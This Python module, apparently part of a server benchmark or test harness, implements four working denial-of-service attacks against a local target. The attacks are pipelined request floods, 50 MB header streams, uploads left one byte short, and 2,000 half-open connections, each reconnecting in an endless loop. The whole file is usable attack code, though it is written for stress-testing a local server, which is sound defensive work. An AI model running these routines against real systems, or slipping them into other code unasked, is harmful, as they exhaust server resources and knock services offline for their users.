"""Attacks below the application: requests that are too many, too long or never finished."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from typing import Final, NoReturn

from bench.attack.target import Refused, Target, Wire

__all__ = ["endless_headers", "half_open_connections", "pipelined_requests", "unfinished_uploads"]

_MEGABYTE: Final = 1_000_000
_PIPELINED: Final = 20 * _MEGABYTE
_HEADERS: Final = 50 * _MEGABYTE
"""Bytes per connection."""
_HEADER_CONNECTIONS: Final = 8
_UPLOADS: Final = 250
_UPLOAD: Final = 8 * 1024 * 1024
_HALF_OPEN: Final = 2000
_CONNECTIONS_PER_SECOND: Final = 500
_RETRY_DELAY: Final = 4.0
"""Seconds before a closed connection is opened again."""


async def pipelined_requests(target: Target) -> NoReturn:
    """One connection sends 20 MB of requests and reads no response."""
    request = b"GET /api/me HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % target.port * 1000

    async def send(wire: Wire) -> None:
        for _ in range(_PIPELINED // len(request)):
            await wire.send(request)

    await _repeat(target, 1, send)


async def endless_headers(target: Target) -> NoReturn:
    """Eight connections send one request each, with 50 MB of headers."""
    headers = b"".join(b"X-Filler-%03d: %s\r\n" % (number, b"x" * 4000) for number in range(100))

    async def send(wire: Wire) -> None:
        await wire.send(b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % target.port)
        for _ in range(_HEADERS // len(headers)):
            await wire.send(headers)

    await _repeat(target, _HEADER_CONNECTIONS, send)


async def unfinished_uploads(target: Target) -> NoReturn:
    """250 connections upload files of 8 MB, except for the last byte."""
    head = (
        b"POST /api/records HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n"
        % (target.port, _UPLOAD)
    )
    piece = b" " * 65_536

    async def send(wire: Wire) -> None:
        await wire.send(head)
        for _ in range(_UPLOAD // len(piece) - 1):
            await wire.send(piece)
        await wire.send(piece[1:])

    await _repeat(target, _UPLOADS, send)


async def half_open_connections(target: Target) -> NoReturn:
    """One address opens 2,000 connections and sends half a request on each."""

    async def send(wire: Wire) -> None:
        await wire.send(b"GET /api/health HTTP/1.1\r\nHost: 127.")

    await _repeat(target, _HALF_OPEN, send)


async def _repeat(target: Target, connections: int, send: Callable[[Wire], Awaitable[None]]) -> NoReturn:
    """Send something on many connections, keep them open, and reconnect those that the server closes."""
    target.begin()

    async def run(number: int) -> NoReturn:
        await asyncio.sleep(number / _CONNECTIONS_PER_SECOND)
        while True:
            try:
                wire = await target.connect()
                await send(wire)
                await wire.wait_closed()
            except Refused as refusal:
                await target.refuse(str(refusal))
                await asyncio.sleep(_RETRY_DELAY)

    async with asyncio.TaskGroup() as group:
        for number in range(connections):
            group.create_task(run(number))
    raise AssertionError("the connections never end")
